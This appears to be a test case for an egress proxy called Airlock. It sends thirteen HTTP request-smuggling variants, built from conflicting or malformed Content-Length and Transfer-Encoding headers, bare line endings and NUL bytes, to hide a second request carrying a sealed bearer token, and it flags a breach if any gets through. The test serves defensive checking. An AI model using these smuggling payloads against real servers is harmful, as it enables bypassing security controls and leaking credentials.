# D14 hides a second request where Airlock and the host may disagree about the end of the first
# decided-by: egress
# hosts: echo.test
# timeout: 60
sealed = b"Authorization: Bearer " + settings["SEALED"].encode()
hidden = http_head(b"GET /smuggled HTTP/1.1", b"Host: echo.test", sealed)
head = b"POST / HTTP/1.1\r\nHost: echo.test\r\n"
for what, request in {
    "CL and TE": head + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
    "two CL": head + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(hidden) + hidden,
    "CL with a sign": head + b"Content-Length: +0\r\n\r\n" + hidden,
    "CL list": head + b"Content-Length: 0, 0\r\n\r\n" + hidden,
    "TE with a tab": head + b"Transfer-Encoding:\tchunked\r\nContent-Length: 0\r\n\r\n" + hidden,
    "TE twice": head + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + hidden,
    "unknown TE": head + b"Transfer-Encoding: xchunked\r\n\r\n" + hidden,
    "space before the colon": head + b"Content-Length : 0\r\n\r\n" + hidden,
    "folded line": head + b"X: a\r\n Content-Length: 0\r\n\r\n" + hidden,
    "bare LF": head.replace(b"\r\n", b"\n") + b"Content-Length: 0\n\n" + hidden,
    "bare CR": head + b"X: a\rContent-Length: 0\r\n\r\n" + hidden,
    "NUL in a header": head + b"X: a\0b\r\nContent-Length: 0\r\n\r\n" + hidden,
    "bad chunk size": head + b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + hidden,
}.items():
    try:
        answer = raw_http("echo.test", request, timeout=5)
    except OSError:
        continue
    if b"smuggled" in answer or status_of(answer) == 200:
        breach("%s: %r" % (what, answer[:500]))
held()
